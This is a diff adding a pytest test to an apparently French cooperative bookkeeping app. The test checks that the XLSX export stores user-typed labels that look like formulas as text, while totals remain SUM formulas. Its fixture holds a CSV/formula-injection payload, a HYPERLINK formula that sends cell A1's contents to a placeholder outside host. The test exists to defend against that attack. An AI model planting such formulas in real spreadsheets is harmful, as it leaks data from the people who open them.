@@ -108,6 +108,22 @@ def test_cahier_xlsx_has_numbers_and_dates(books, tmp_path, monkeypatch):
     assert float(ws.cell(row=9, column=col).value) == pytest.approx(1460.27)
 
 
+def test_cahier_xlsx_keeps_typed_text_as_text_and_totals_as_formulas(books):
+    """A libellé typed as a formula must not run when the AD opens the export."""
+    from datetime import date
+    from io import BytesIO
+    from openpyxl import load_workbook
+    from retkoop_widgets.reports.xlsx import cahier_xlsx
+    typed = '=HYPERLINK("http://x.example/?"&A1;"Facture")'
+    books.record_entry(COOP, EX, EntryDraft(date(2025, 10, 3), typed, tiers="=1+1", mode="virement",
+                                            bank_out=17450, ventilation=(V("6281", 17450),)))
+    ws = load_workbook(BytesIO(cahier_xlsx(books.cahier(COOP, EX), books.chart(COOP)))).active
+    assert (ws["C2"].value, ws["C2"].data_type) == (typed, "s")
+    assert (ws["D2"].value, ws["D2"].data_type) == ("=1+1", "s")
+    totals = ws[ws.max_row]
+    assert totals[0].value == "Totaux" and any(c.data_type == "f" and c.value.startswith("=SUM(") for c in totals)
+
+
 # ---------------------------------------------------------------- real PDFs (SQLite)
 @pytest.fixture
 def sqlite_books(tmp_path, clock):
